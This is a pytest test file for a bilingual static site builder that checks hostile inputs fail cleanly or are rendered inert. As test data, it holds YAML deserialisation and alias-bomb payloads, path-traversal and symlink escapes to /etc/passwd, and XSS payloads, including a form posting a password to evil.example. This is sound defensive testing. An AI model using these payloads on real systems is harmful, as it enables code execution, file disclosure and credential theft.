"""Hostile and broken inputs through real builds: each fails with a located message and no
traceback, and leaves the previous site as it was; injected markup builds but comes out inert."""

from __future__ import annotations

import hashlib
import os
import re
import subprocess
import sys
import unicodedata
from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image

from tests.conftest import ROOT, build, make_content, parse

pytestmark = pytest.mark.slow

ITEM = Path("news/2021/tong-ket-2020-ky-giao-uoc-2021")
VI_URL = "tin-tuc/2021/ky-giao-uoc-thi-dua-khoi-thi-dua-cac-bo-nganh-noi-chinh-trung-uong/"
EN_URL = "en/news/2021/central-internal-affairs-emulation-bloc-signs-2021-emulation-covenant/"
SLUG_LINE = "slug: ky-giao-uoc-thi-dua-khoi-thi-dua-cac-bo-nganh-noi-chinh-trung-uong"


def tree_digest(folder: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        digest.update(str(path.relative_to(folder)).encode())
        if path.is_file() and not path.is_symlink():
            digest.update(path.read_bytes())
    return digest.hexdigest()


@pytest.fixture(scope="module")
def previous_site(tmp_path_factory):
    base = tmp_path_factory.mktemp("bad-inputs")
    content = make_content(base / "good")
    result = build(content, base / "output")
    assert result.returncode == 0, result.stderr
    return base, result.output


# --- mutations of a copy of the fixture content -----------------------------------------

Mutation = Callable[[Path], None]


def edit(lang: str, old: str, new: str) -> Mutation:
    def apply(content: Path) -> None:
        path = content / ITEM / f"index.{lang}.md"
        text = path.read_text(encoding="utf-8")
        assert old in text, old
        path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return apply


def encode(lang: str, encoding: str) -> Mutation:
    def apply(content: Path) -> None:
        path = content / ITEM / f"index.{lang}.md"
        text = path.read_text(encoding="utf-8").replace("\n", "\r\n")
        # Windows-1258 writes Vietnamese with combining tone marks: decompose first.
        path.write_bytes(unicodedata.normalize("NFD", text).encode(encoding, errors="replace"))
    return apply


def write(relative: str, data: bytes) -> Mutation:
    def apply(content: Path) -> None:
        path = content / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return apply


def front(extra: str) -> Mutation:
    """Add lines at the end of the Vietnamese file's front matter."""
    return edit("vi", "  signatories: all\n---", "  signatories: all\n" + extra + "\n---")


def symlink(relative: str, target: str) -> Mutation:
    def apply(content: Path) -> None:
        path = content / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target.replace("{outside}", str(content.parent / "outside")), path)
    return apply


def fifo(relative: str) -> Mutation:
    def apply(content: Path) -> None:
        os.mkfifo(content / relative)
    return apply


def both(*mutations: Mutation) -> Mutation:
    def apply(content: Path) -> None:
        for mutation in mutations:
            mutation(content)
    return apply


def copy_item(folder: str, key: str) -> Mutation:
    """A second item: the fixture's Vietnamese file under another folder and translation key."""
    def apply(content: Path) -> None:
        text = (content / ITEM / "index.vi.md").read_text(encoding="utf-8")
        text = text.replace("translation_key: tong-ket-2020-ky-giao-uoc-2021", f"translation_key: {key}")
        target = content / "news" / "2021" / folder / "index.vi.md"
        target.parent.mkdir(parents=True)
        target.write_text(text, encoding="utf-8")
    return apply


def photo_file(name: str) -> Mutation:
    def apply(content: Path) -> None:
        noise = Image.effect_noise((320, 240), 60).convert("RGB")  # not uniform: truncating it loses pixels
        noise.save(content / ITEM / name, "JPEG", quality=90)
    return apply


def truncate(relative: str) -> Mutation:
    def apply(content: Path) -> None:
        data = (content / relative).read_bytes()
        (content / relative).write_bytes(data[: len(data) // 2])
    return apply


def photos(name: str, en_alt: str | None = "Leaders sign the covenant") -> Mutation:
    """Declare one photo in the Vietnamese file and give its English alt text (unless None)."""
    vi = edit("vi", "covenant:\n", f"photos:\n  - file: {name}\n    alt: Lãnh đạo các bộ ký Giao ước\ncovenant:\n")
    en = edit("en", "covenant:\n", f"photos:\n  - file: {name}\n    alt: {en_alt}\ncovenant:\n")
    return both(vi, en) if en_alt else vi


BILLION_LAUGHS = 'a: &a ["x","x","x","x","x","x","x","x","x"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: [*b,*b,*b,*b,*b,*b,*b,*b,*b]'
DEEP = "deep: " + "[" * 40 + "]" * 40

# name: (mutation, text the error line must contain)
FAILING = {
    "latin-1 file": (write(f"{ITEM}/index.vi.md", "---\ntitle: Café\n---\n".encode("latin-1")), "not valid UTF-8"),
    "windows-1258 file": (encode("vi", "cp1258"), "not valid UTF-8"),
    "utf-16 file": (encode("vi", "utf-16"), "not valid UTF-8"),
    "binary garbage": (write(f"{ITEM}/index.vi.md", bytes(range(256)) * 4), "not valid UTF-8"),
    "empty file": (write(f"{ITEM}/index.vi.md", b""), "file is empty"),
    "no front matter": (write(f"{ITEM}/index.vi.md", "Chỉ có nội dung.\n".encode()), "no front matter"),
    "front matter not closed": (write(f"{ITEM}/index.vi.md", b"---\ntitle: x\n"), "front matter is not closed"),
    "front matter is a list": (write(f"{ITEM}/index.vi.md", b"---\n- a\n- b\n---\nx\n"), "front matter must be"),
    "file over the size limit": (write(f"{ITEM}/index.vi.md", b"---\ntitle: x\n---\n" + b"a" * 1_100_000), "the limit is"),
    "billion laughs aliases": (front(BILLION_LAUGHS), "is not allowed"),
    "yaml merge key": (front("base: &b {x: 1}\nmerged:\n  <<: *b"), "is not allowed"),
    "python object tag": (front("evil: !!python/object/apply:os.system ['id']"), "YAML tag"),
    "custom include tag": (front("evil: !include /etc/passwd"), "YAML tag"),
    "nesting too deep": (front(DEEP), "nested"),
    "save_as in front matter": (front("save_as: index.html"), "save_as"),
    "url in front matter": (front("url: /"), "url"),
    "template in front matter": (front("template: ../../../etc/passwd"), "template"),
    "override_url in front matter": (front("override_url: /"), "override_url"),
    "status hidden": (edit("vi", "date_precision: month", "date_precision: month\nstatus: hidden"), "status"),
    "misspelt field": (edit("vi", "byline: TG-PV", "bylin: TG-PV"), "bylin"),
    "slug with capitals": (edit("vi", SLUG_LINE, "slug: Ky-Giao-Uoc"), "slug"),
    "slug climbing out": (edit("vi", SLUG_LINE, "slug: ../../index"), "slug"),
    "slug with a slash": (edit("vi", SLUG_LINE, "slug: tin-tuc/ky"), "slug"),
    "reserved slug pagefind": (edit("vi", SLUG_LINE, "slug: pagefind"), "reserved"),
    "reserved slug tin-tuc": (edit("vi", SLUG_LINE, "slug: tin-tuc"), "reserved"),
    "reserved slug theme": (edit("vi", SLUG_LINE, "slug: theme"), "reserved"),
    # section URLs of BLOC_URLS (the members' and years' pages, in both languages)
    "reserved slug bo-nganh": (edit("vi", SLUG_LINE, "slug: bo-nganh"), "'bo-nganh' is reserved"),
    "reserved slug nam": (edit("vi", SLUG_LINE, "slug: nam"), "'nam' is reserved"),
    "reserved slug members": (edit("vi", SLUG_LINE, "slug: members"), "'members' is reserved"),
    "reserved slug years": (edit("vi", SLUG_LINE, "slug: years"), "'years' is reserved"),
    "control character in title": (edit("vi", "title: Ký Giao ước thi đua Khối thi đua các bộ, ngành Nội chính Trung ương", "title: \"Ký\\u0007 Giao\""), "control"),
    "bidi override in title": (edit("vi", "title: Ký Giao", "title: Ký \u202e Giao"), "bidi"),
    "lang does not match file name": (edit("vi", "lang: vi", "lang: en"), "does not match the file name"),
    "date in a local format": (edit("vi", "published: 2021-01-01T00:00:00+07:00", "published: 07/09/2024"), "ISO 8601"),
    "date in UTC": (edit("vi", "published: 2021-01-01T00:00:00+07:00", "published: 2021-01-01T00:00:00+00:00"), "Vietnam time"),
    "updated before published": (edit("vi", "date_precision: month", "date_precision: month\nupdated: 2020-01-01T00:00:00+07:00"), "earlier than published"),
    "title too long": (edit("vi", "title: Ký Giao", "title: " + "Rất dài " * 60 + "Ký Giao"), "title"),
    "javascript source url": (edit("vi", "  url: https://baovephapluat.vn", "  url: javascript://baovephapluat.vn"), "source.url"),
    "data source url": (edit("vi", "  url: https://baovephapluat.vn", "  url: data:text/html,x#https://baovephapluat.vn"), "source.url"),
    "photo path climbing out": (front("photos:\n  - {file: ../../../../etc/passwd, alt: Ảnh}"), "inside the item's folder"),
    "photo absolute path": (front("photos:\n  - {file: /etc/passwd, alt: Ảnh}"), "inside the item's folder"),
    "photo windows path": (front("photos:\n  - {file: 'C:\\anh.jpg', alt: Ảnh}"), "inside the item's folder"),
    "symlinked photo leaving content": (symlink(f"{ITEM}/anh.jpg", "/etc/passwd"), "leaves content/"),
    "symlinked item leaving content": (both(write("../outside/index.vi.md", b"---\n---\n"),
                                            symlink("news/2021/link/index.vi.md", "{outside}/index.vi.md")), "leaves content/"),
    "symlinked folder leaving content": (symlink("news/lien-ket", "/etc"), "leaves content/"),
    "dangling symlink": (symlink(f"{ITEM}/anh.jpg", "khong-co.jpg"), "dangling"),
    "symlink loop": (both(symlink("news/a.md", "b.md"), symlink("news/b.md", "a.md")), "loop"),
    "folder linked to its ancestor": (symlink("news/2021/vong", ".."), "loop"),
    "fifo named like an item": (both(write("news/2021/ong/.keep", b""), fifo("news/2021/ong/index.vi.md")), "regular file"),
    "duplicate translation key": (copy_item("ban-sao", "tong-ket-2020-ky-giao-uoc-2021"), "tong-ket-2020-ky-giao-uoc-2021"),
    "impossible date": (edit("vi", "published: 2021-01-01T00:00:00+07:00", "published: 2021-02-30T09:00:00+07:00"),
                        "is not a date that exists"),
    "year out of range": (edit("vi", "published: 2021-01-01T00:00:00+07:00", "published: 0001-01-01T00:00:00+07:00"),
                          "1990"),
    "photo name differs in case": (both(photo_file("so-ket-2024.jpg"), photos("so-ket-2024.JPG")),
                                   "upper and lower case must match"),
    "photo that is no image": (both(write(f"{ITEM}/so-ket-2024.jpg", b"\xff\xd8\xff not a photo"),
                                    photos("so-ket-2024.jpg")), "not an image"),
    "truncated photo": (both(photo_file("so-ket-2024.jpg"), truncate(f"{ITEM}/so-ket-2024.jpg"), photos("so-ket-2024.jpg")),
                        "truncated or corrupt"),
    "marker naming no photo": (edit("en", "\nNguyễn Văn Thành", "\n[[photo:so-ket.jpg]]\n\nNguyễn Văn Thành"),
                               "names no photo of this item"),
    "published item with a broken photo alt": (both(photo_file("so-ket-2024.jpg"),
                                                    photos("so-ket-2024.jpg", en_alt=None)), "has no alt text"),
}


@pytest.mark.parametrize("case", list(FAILING))
def test_bad_input_fails_cleanly(previous_site, tmp_path, case):
    base, output = previous_site
    before = tree_digest(output)
    mutation, expected = FAILING[case]
    content = make_content(tmp_path / "content", base / "good")
    mutation(content)
    result = build(content, output)
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stderr, result.stderr
    assert result.errors, result.stderr
    assert any(expected in line for line in result.errors), result.stderr
    assert "the previous site is unchanged" in result.stderr
    assert tree_digest(output) == before
    assert not list(output.parent.glob(f".{output.name}.tmp-*"))
    # `bloc check` on the same content says exactly what the build said
    assert check_diagnostics(tmp_path) == build_diagnostics(result, tmp_path)


def build_diagnostics(result, root: Path) -> list[str]:
    """The diagnostics a build printed, with paths relative to the site's folder (as check shows them)."""
    prefix = f"{root.resolve()}/"
    lines = (line.removeprefix("WARNING: ").replace(prefix, "") for line in result.stderr.splitlines())
    return sorted(line for line in lines if DIAGNOSTIC.match(line))


def check_diagnostics(root: Path) -> list[str]:
    done = subprocess.run([sys.executable, "-m", "bloc_cli", "--root", str(root), "check", "--lang", "en"],
                          cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert "Traceback" not in done.stderr, done.stderr
    prefix = f"{root.resolve()}/"
    return sorted(line.replace(prefix, "") for line in done.stdout.splitlines() if DIAGNOSTIC.match(line))


DIAGNOSTIC = re.compile(r"^\S.*?: (error|warning): ")


# --- markup injected into the body builds, and comes out inert --------------------------

INJECTIONS = """

<script>alert("script")</script>

[link](javascript:alert('md-link'))

[entity link](&#106;avascript:alert('entity'))

<a href="jav&#x09;ascript:alert('tab')">tab</a>

<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>

<iframe src="https://evil.example/"></iframe>

<p style="position:fixed" onclick="alert('p')">styled</p>

Đoạn văn
{: onclick="alert('attr_list')" }

<form action="https://evil.example/"><input name="password"></form>

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<base href="https://evil.example/">

<svg onload="alert('svg')"></svg>

<object data="x.swf"></object><embed src="x.swf">

<!-- <script>alert("comment")</script> -->
"""


HOSTILE_SUMMARY = "Tăng <5% <img src=x onerror=alert(document.domain)> & \"x\""


@pytest.fixture(scope="module")
def injected_site(tmp_path_factory):
    base = tmp_path_factory.mktemp("injected")
    content = make_content(base / "content")
    vi = content / ITEM / "index.vi.md"
    text = vi.read_text(encoding="utf-8") + INJECTIONS
    text = re.sub(r"(?m)^title: .*$", lambda _: 'title: "</title><script>alert(1)</script> Ký Giao ước"', text, count=1)
    text = text.replace("byline: TG-PV", "byline: '\"><img src=x onerror=alert(1)>'")
    text = re.sub(r"(?ms)^summary: >-\n(  .*?\n)+", lambda _: f"summary: {HOSTILE_SUMMARY!r}\n", text, count=1)
    text += "\n\na<b và c>d, Căn cứ <Nghị định số 91/2017/NĐ-CP> còn tiếp.\n\n<span>giữ chữ</span>\n"
    text = text.replace("publisher: Báo Bảo vệ pháp luật", "publisher: 'Báo <i>Bảo vệ</i> & pháp luật'")
    text = text.replace("name: Nguyễn Văn Thành", "name: 'Nguyễn <b onclick=x>Văn</b> Thành'")
    vi.write_text(text, encoding="utf-8")
    result = build(content, base / "output")
    assert result.returncode == 0, result.stderr
    injected_site.stderr = result.stderr
    return result.output


def test_every_machine_readable_output_carries_the_summary_as_text(injected_site):
    import json

    import feedparser
    from lxml import etree

    feed = feedparser.parse((injected_site / "tin-tuc" / "atom.xml").read_bytes())
    assert not feed.bozo, feed.bozo_exception
    entry = next(e for e in feed.entries if e.link.endswith(VI_URL))
    assert entry.summary_detail.type == "text/plain" and entry.summary == HOSTILE_SUMMARY
    assert entry.title.startswith("</title><script>")
    soup = parse(injected_site / VI_URL / "index.html")
    assert soup.find("meta", attrs={"name": "description"})["content"] == HOSTILE_SUMMARY
    assert soup.find("meta", property="og:description")["content"] == HOSTILE_SUMMARY
    for script in soup.find_all("script", type="application/ld+json"):
        assert "<" not in script.string.replace("\\u003c", "")  # no markup can end the block
        data = json.loads(script.string)
        if isinstance(data, dict) and data.get("description"):
            assert data["description"] == HOSTILE_SUMMARY
    for sitemap in injected_site.rglob("sitemap*.xml"):
        etree.fromstring(sitemap.read_bytes())  # well-formed XML
    main_text = soup.find("main").get_text()
    assert "Báo <i>Bảo vệ</i> & pháp luật" in main_text and "Nguyễn <b onclick=x>Văn</b> Thành" in main_text
    assert not soup.find("main").find_all(["i", "b"])
    # the search index (Pagefind fragments: gzip'd JSON after a signature) keeps it as text
    import gzip
    fragments = [json.loads(gzip.decompress(f.read_bytes()).removeprefix(b"pagefind_dcd"))
                 for f in (injected_site / "pagefind" / "fragment").glob("vi_*.pf_fragment")]
    [item] = [f for f in fragments if f["url"] == f"/{VI_URL}"]
    assert item["meta"]["title"].startswith("</title><script>")
    assert item["meta"]["summary"] == HOSTILE_SUMMARY  # search.js shows it with textContent


def test_text_that_looks_like_html_is_kept_and_removals_are_warned(injected_site):
    main = parse(injected_site / VI_URL / "index.html").find("main")
    assert "a<b và c>d, Căn cứ <Nghị định số 91/2017/NĐ-CP> còn tiếp." in main.get_text()
    assert "giữ chữ" in main.get_text()
    warnings = [line for line in injected_site_stderr(injected_site) if ": warning: " in line]
    assert any(f"{ITEM}/index.vi.md:" in w and "the HTML tag <span> is removed (its text is kept)" in w for w in warnings)
    assert any("the HTML element <script> is removed with its content" in w for w in warnings)


def injected_site_stderr(_output) -> list[str]:
    return injected_site.stderr.splitlines()


def test_injected_markup_is_inert(injected_site):
    soup = parse(injected_site / VI_URL / "index.html")
    main = soup.find("main")
    assert main is not None
    assert main.find_all(["script", "iframe", "form", "input", "meta", "base", "svg", "object", "embed", "style"]) == []
    assert soup.find_all("base") == []
    assert not soup.find("meta", attrs={"http-equiv": True, "content": lambda v: v and "url=" in v})
    for element in soup.find_all(True):
        for name, value in element.attrs.items():
            assert not name.startswith("on"), element
            if name in ("href", "src"):
                squashed = "".join(ch for ch in value if ch > " ").lower()
                assert not squashed.startswith(("javascript:", "data:", "vbscript:")), element
    for script in soup.find_all("script"):
        assert "alert" not in script.get_text()
    assert "styled" in main.get_text() and "position:fixed" not in str(main)


def test_injected_text_is_escaped_not_dropped(injected_site):
    soup = parse(injected_site / VI_URL / "index.html")
    assert "</title><script>" in soup.find("h1").get_text()
    assert "onerror=alert(1)" in soup.find("main").get_text()


# --- limits, body images and words: the exact message, with its line -------------------

def body(text: str) -> Mutation:
    """Put `text` at the start of the Vietnamese body (its first line is line 57)."""
    return edit("vi", "---\n\nĐồng chí Nguyễn Văn Thành", "---\n" + text + "\n\nĐồng chí Nguyễn Văn Thành")


def truncate_body(content: Path) -> None:
    path = content / ITEM / "index.vi.md"
    text = path.read_text(encoding="utf-8")
    path.write_text(text[: text.index("\n---\n") + 5], encoding="utf-8")


def sparse_photo(content: Path) -> None:
    with (content / ITEM / "anh.jpg").open("wb") as handle:  # 400 MB on paper, nothing on disk
        handle.write(b"\xff\xd8\xff\xe0")
        handle.truncate(400_000_000)


TITLE = "title: Ký Giao ước thi đua Khối thi đua các bộ, ngành Nội chính Trung ương"
PHOTO_HINT = "(put the photo in the item's folder and declare it under photos: with its alt text)"
INVISIBLE = "contains an invisible character (control, bidirectional-override or zero-width)"
EXACT = {
    "slug of the members' section": (edit("vi", SLUG_LINE, "slug: bo-nganh"),
                                     "3: error: slug: 'bo-nganh' is reserved for the site's own pages "
                                     "(choose another slug, e.g. add the year or a word)"),
    "25,000 brackets": (body("[" * 25_000), "57: error: more than 500 '[' in one paragraph; Markdown would take "
                        "minutes to read it (remove the stray '[', or raise BLOC_MARKDOWN_MAX_BRACKETS)"),
    "20,000 comment openers": (body("<!--" * 20_000), "57: error: more than 50 '<!--' in one paragraph; Markdown would "
                               "take minutes to read it (remove the stray '<!--', or raise BLOC_MARKDOWN_MAX_COMMENTS)"),
    "990-level list": (body("\n".join("\t" * i + "- a" for i in range(990))),
                       "77: error: lists or quotes nested 21 levels deep; the limit is 20 "
                       "(flatten the list, or raise BLOC_MARKDOWN_MAX_NESTING)"),
    "body image climbing out": (body("![a](../../../../etc/passwd)"),
                                f"57: error: an image in the body ('../../../../etc/passwd') is not published {PHOTO_HINT}"),
    "remote tracking pixel": (body("![](https://t.example/p.gif)"),
                              f"57: error: the image 'https://t.example/p.gif' would be loaded from another site by every reader {PHOTO_HINT}"),
    "img with onerror in the body": (body("<img src=\"x\" onerror=\"alert('onerror')\">"),
                                     f"57: error: an image in the body ('x') is not published {PHOTO_HINT}"),
    "body image in the folder": (body("![](images/gps.jpg)"),
                                 f"57: error: an image in the body ('images/gps.jpg') is not published {PHOTO_HINT}"),
    "C1 control in title": (edit("vi", TITLE, 'title: "Ký\\x9f Giao"'), f"2: error: title: 'Ký\\x9f Giao' {INVISIBLE}"),
    "word joiner in title": (edit("vi", TITLE, "title: Ký\u2060 Giao"), f"2: error: title: 'Ký\\u2060 Giao' {INVISIBLE}"),
    "BOM in alt": (front("photos:\n  - {file: anh.jpg, alt: \"Lễ\ufeff ký\"}"), f"57: error: photos[0].alt: 'Lễ\\ufeff ký' {INVISIBLE}"),
    "escape in photo file name": (front("photos:\n  - {file: \"a\\e[2Jb.jpg\", alt: Lễ ký}"),
                                  f"57: error: photos[0].file: 'a\\x1b[2Jb.jpg' {INVISIBLE}"),
    "punctuation-only title": (edit("vi", "title: Ký Giao ước thi đua Khối thi đua các bộ, ngành Nội chính Trung ương",
                                    "title: '!!! …'"),
                               "2: error: title: '!!! …' has no letters or digits (write the title in words)"),
    "no body": (truncate_body, "56: error: the item has no text below the front matter "
                "(write the article below the second '---' line)"),
    "alt that is a file name": (front("photos:\n  - {file: anh.jpg, alt: IMG_1234.JPG}"),
                                "57: error: photos[0].alt: alt text 'IMG_1234.JPG' is a file name (describe what the photo shows)"),
    "empty alt and missing alt": (front("photos:\n  - {file: a.jpg, alt: ''}\n  - {file: b.jpg}"),
                                  "58: error: photos[1].alt: alt text is required "
                                  "(describe what the photo shows, or set decorative: true)"),
    "photo over the byte limit": (both(sparse_photo, front("photos:\n  - {file: anh.jpg, decorative: true}")),
                                  "57: error: photos[0].file: the file is 400,000,000 bytes; the limit is 40,000,000 "
                                  "(BLOC_PHOTOS_MAX_BYTES) (export the photo again as a JPEG of a few megabytes)"),
}


def test_a_folder_name_with_escape_and_cr_is_refused_and_shown_escaped(previous_site, tmp_path):
    base, output = previous_site
    content = make_content(tmp_path / "content", base / "good")
    folder = content / "news" / "2021" / "x\x1b[2J\ry"
    folder.mkdir()
    (folder / "index.vi.md").write_bytes((content / ITEM / "index.vi.md").read_bytes())
    result = build(content, output)
    assert result.returncode == 1
    assert "\x1b" not in result.stderr and "\r" not in result.stderr
    shown = str(content / "news" / "2021").replace(str(content.parent) + "/", "")
    assert any(line.endswith(f"{shown}/x\\x1b[2J\\ry: error: the name contains an invisible character "
                             "(control, bidirectional-override or zero-width) (rename it with visible characters only)")
               for line in result.errors), result.stderr


@pytest.mark.parametrize("case", list(EXACT))
def test_bad_input_gives_its_exact_message(previous_site, tmp_path, case):
    base, output = previous_site
    before = tree_digest(output)
    mutation, expected = EXACT[case]
    content = make_content(tmp_path / "content", base / "good")
    mutation(content)
    result = build(content, output)
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stderr, result.stderr
    assert f"{content / ITEM / 'index.vi.md'}:{expected}" in result.errors, result.stderr
    assert tree_digest(output) == before


def test_a_link_harmless_after_parsing_is_no_false_alarm(previous_site, tmp_path):
    base, _output = previous_site
    content = make_content(tmp_path / "content", base / "good")
    body("[x](java\tscript:alert(1))")(content)
    result = build(content, tmp_path / "output")
    assert result.returncode == 0, result.stderr
    assert "bloc_safety" not in result.stderr
    link = parse(result.output / VI_URL / "index.html").find("main").find("a", string="x")
    assert link["href"] == "java    script:alert(1)"  # a relative URL: the browser never runs it


def test_warnings_are_in_the_language_of_the_command(previous_site, tmp_path):
    import subprocess
    import sys

    from tests.conftest import ROOT

    base, _output = previous_site
    content = make_content(tmp_path / "content", base / "good")
    body("Héi nghÞ tæng kÕt c«ng t¸c thi ®ua")(content)
    done = subprocess.run([sys.executable, "-m", "bloc_cli", "build", "--lang", "vi", "--content", str(content),
                           "--output", str(tmp_path / "output"), "--cache", str(tmp_path / "cache"), "--quiet"],
                          cwd=ROOT, capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    assert (f"{content / ITEM / 'index.vi.md'}:57: cảnh báo: dòng này có vẻ là văn bản bảng mã tiếng Việt cũ "
            "(TCVN3 hoặc VNI) (chuyển văn bản sang Unicode (ví dụ bằng công cụ chuyển mã của UniKey) rồi dán lại)"
            ) in done.stderr


@pytest.mark.parametrize("breakage", ["title: [unclosed", "published: 2021-02-30T09:00:00+07:00", "title:\tTab"])
def test_a_broken_original_is_not_blamed_on_its_translation(previous_site, tmp_path, breakage):
    """The English file states no facts: while the Vietnamese one cannot be read, it waits."""
    base, _ = previous_site
    content = make_content(tmp_path / "content", base / "good")
    edit("vi", "lang: vi", f"lang: vi\n{breakage}")(content)
    result = build(content, tmp_path / "output")
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert result.errors and all("/index.vi.md:" in line for line in result.errors), result.stderr
    assert check_diagnostics(tmp_path) == build_diagnostics(result, tmp_path)
